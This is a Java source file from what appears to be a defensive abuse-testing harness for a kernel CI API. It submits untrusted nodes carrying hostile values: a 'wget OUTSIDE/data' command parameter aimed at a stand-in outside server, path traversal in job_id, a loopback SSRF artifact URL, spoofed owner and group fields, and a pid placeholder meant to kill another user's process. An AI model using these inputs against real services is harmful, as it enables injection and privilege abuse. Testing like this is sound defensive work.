package dev.kci.abuse.family;

import dev.kci.abuse.Family;
import dev.kci.abuse.stage.Footprints;
import dev.kci.abuse.stage.Lab;
import dev.kci.abuse.stage.RefusedException;
import dev.kci.abuse.stage.Stage;
import dev.kci.abuse.stage.StrangersServer;
import dev.kci.api.model.JsonObject;
import dev.kci.quickstart.Workplace;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/** Nodes of every kind, with each field that could direct a service, posted by strangers. */
public final class ForeignNodes implements Family<ForeignNode> {
  private static final List<String> PEOPLE = List.of("stranger", "editor", "neighbour");
  private static final List<String> KINDS =
      List.of("kbuild", "job", "test", "checkout", "process", "regression");

  private final Workplace place;

  public ForeignNodes(Workplace place) {
    this.place = place;
  }

  @Override
  public String name() {
    return "nodes";
  }

  @Override
  public boolean waits() {
    return true;
  }

  @Override
  public List<ForeignNode> attempts() {
    List<ForeignNode> all = new ArrayList<>();
    for (String person : PEOPLE) {
      for (String kind : KINDS) {
        addAll(all, person, kind);
      }
    }
    return all;
  }

  private static void addAll(List<ForeignNode> all, String person, String kind) {
    for (String parent : List.of("none", "checkout", "kbuild", "own")) {
      all.add(new ForeignNode(person, kind, "below " + parent, parent, Map.of(), Map.of()));
    }
    for (String state : List.of("available", "closing", "done")) {
      field(all, person, kind, "state", state);
    }
    field(all, person, kind, "result", "pass");
    field(all, person, kind, "timeout", "2020-01-01T00:00:00");
    field(all, person, kind, "timeout", "2099-01-01T00:00:00");
    field(all, person, kind, "holdoff", "2020-01-01T00:00:00");
    field(all, person, kind, "retry_counter", 3L);
    field(all, person, kind, "retry_counter", -1L);
    field(all, person, kind, "jobfilter", List.of("kbuild-demo", "sched-tests", "boot-demo"));
    field(all, person, kind, "platform_filter", List.of("shell"));
    field(all, person, kind, "owner", "pipeline");
    field(all, person, kind, "submitter", "service:pipeline");
    field(all, person, kind, "group", "sched-tests");
    field(all, person, kind, "user_groups", List.of("runtime:shell:node-editor"));
    field(all, person, kind, "treeid", "0123456789abcdef");
    field(all, person, kind, "artifacts", Map.of("tarball", "http://127.0.0.1:22/x"));
    field(all, person, kind, "artifacts", Map.of("kernel", "OUTSIDE/k", "log", "OUTSIDE/log"));
    data(all, person, kind, "job_id", "VICTIM");
    data(all, person, kind, "job_id", "../../../../tmp");
    data(all, person, kind, "job_id", "no number");
    data(all, person, kind, "job_context", "vm");
    data(all, person, kind, "runner_instance", "");
    data(all, person, kind, "runtime", "");
    data(all, person, kind, "platform", "nothing");
    data(all, person, kind, "params", Map.of("command", "wget OUTSIDE/data"));
    data(all, person, kind, "template", "script");
    data(all, person, kind, "tarball_sha256", "0");
  }

  private static void field(
      List<ForeignNode> all, String person, String kind, String name, Object value) {
    String what = name + "=" + value;
    all.add(new ForeignNode(person, kind, what, "none", Map.of(name, value), Map.of()));
  }

  private static void data(
      List<ForeignNode> all, String person, String kind, String name, Object value) {
    String what = "data." + name + "=" + value;
    all.add(new ForeignNode(person, kind, what, "none", Map.of(), Map.of(name, value)));
  }

  @Override
  public List<String> control() {
    return List.of(); // the lab's own checkout in play() has each effect
  }

  @Override
  public Map<Integer, String> play(Map<Integer, ForeignNode> chosen) throws Exception {
    Map<Integer, String> breaches = new TreeMap<>();
    Process victim = new ProcessBuilder("sleep", "600").start();
    try (Stage stage = Stage.open(place, name(), Lab.usual());
        StrangersServer outside = StrangersServer.start(stage)) {
      stage.startAll();
      JsonObject ours = stage.owner().create(stage.newCheckout());
      requireWorking(stage.problemsOf(ours, 0));
      String kbuild = requireTraces(stage, ours);
      JsonObject open = stage.owner().create(stage.newCheckout());
      Map<String, String> parents = new LinkedHashMap<>();
      parents.put("checkout", open.string("id").orElseThrow());
      parents.put("kbuild", kbuild);
      parents.put("own", ownCheckout(stage));
      int refused = 0;
      Footprints footprints = new Footprints(stage, outside);
      for (Map.Entry<Integer, ForeignNode> entry : chosen.entrySet()) {
        int number = entry.getKey();
        ForeignNode attempt = entry.getValue();
        JsonObject node = node(stage, attempt, outside.url(number, "x.tar.gz"), victim, parents);
        try {
          footprints.planted(number, stage.person(attempt.person()).create(node));
        } catch (RefusedException e) {
          refused++;
        }
      }
      if (refused * 2 > chosen.size()) {
        throw new IllegalStateException("the API refused " + refused + " of " + chosen.size());
      }
      List<String> problems = new ArrayList<>(stage.problemsOf(open, 1));
      problems.addAll(stage.proveLiveness());
      breaches.putAll(footprints.effects());
      if (!victim.isAlive()) {
        problems.add("another user's process was ended");
      }
      problems.forEach(
          what -> breaches.putIfAbsent(chosen.keySet().iterator().next(), "(all at once) " + what));
    } finally {
      victim.destroyForcibly();
    }
    return breaches;
  }

  private static void requireWorking(List<String> problems) {
    if (!problems.isEmpty()) {
      throw new IllegalStateException("before any attempt: " + problems);
    }
  }

  /** Checks that the lab's own jobs left their canaries; returns the id of the build. */
  private static String requireTraces(Stage stage, JsonObject checkout) throws Exception {
    List<JsonObject> jobs =
        stage.owner().find("parent=" + checkout.string("id").orElseThrow() + "&name=kbuild-demo");
    String id = jobs.get(0).string("id").orElseThrow();
    Path trace = stage.canaries().resolve("ran-" + id);
    if (!Files.exists(trace)) {
      throw new IllegalStateException("the lab's own build left no " + trace);
    }
    return id;
  }

  private static String ownCheckout(Stage stage) throws Exception {
    JsonObject own = stage.newCheckout().with("state", "available").with("name", "mine");
    return stage.person("stranger").create(own).string("id").orElseThrow();
  }

  private static JsonObject node(
      Stage stage, ForeignNode attempt, String tarball, Process victim, Map<String, String> parents)
      throws Exception {
    String name =
        switch (attempt.kind()) {
          case "kbuild" -> "kbuild-demo";
          case "checkout" -> "checkout";
          default -> "sched-tests";
        };
    JsonObject data =
        JsonObject.of("runtime", "shell")
            .with("platform", "shell")
            .with("runner_instance", "abuse")
            .with("kernel_revision", stage.revision().asMap())
            .with(JsonObject.of(filled(attempt.data(), tarball, victim)));
    JsonObject node =
        JsonObject.of("kind", attempt.kind())
            .with("name", name)
            .with("path", List.of(name))
            .with("state", "running")
            .with("artifacts", Map.of("tarball", tarball))
            .with(JsonObject.of(filled(attempt.fields(), tarball, victim)));
    if (attempt.kind().equals("regression")) {
      data = data.with("fail_node", parents.get("kbuild")).with("pass_node", parents.get("kbuild"));
    }
    String parent = parents.get(attempt.parent());
    node = node.with("data", data.asMap());
    return parent == null ? node : node.with("parent", parent);
  }

  private static Map<String, Object> filled(
      Map<String, Object> values, String tarball, Process victim) {
    Map<String, Object> filled = new LinkedHashMap<>();
    values.forEach((name, value) -> filled.put(name, filled(value, tarball, victim)));
    return filled;
  }

  private static Object filled(Object value, String tarball, Process victim) {
    if (value instanceof String text) {
      String outside = tarball.substring(0, tarball.lastIndexOf('/'));
      return text.replace("OUTSIDE", outside).replace("VICTIM", "" + victim.pid());
    }
    if (value instanceof Map<?, ?> map) {
      Map<String, Object> inside = new LinkedHashMap<>();
      map.forEach((name, entry) -> inside.put(name.toString(), filled(entry, tarball, victim)));
      return inside;
    }
    return value;
  }
}
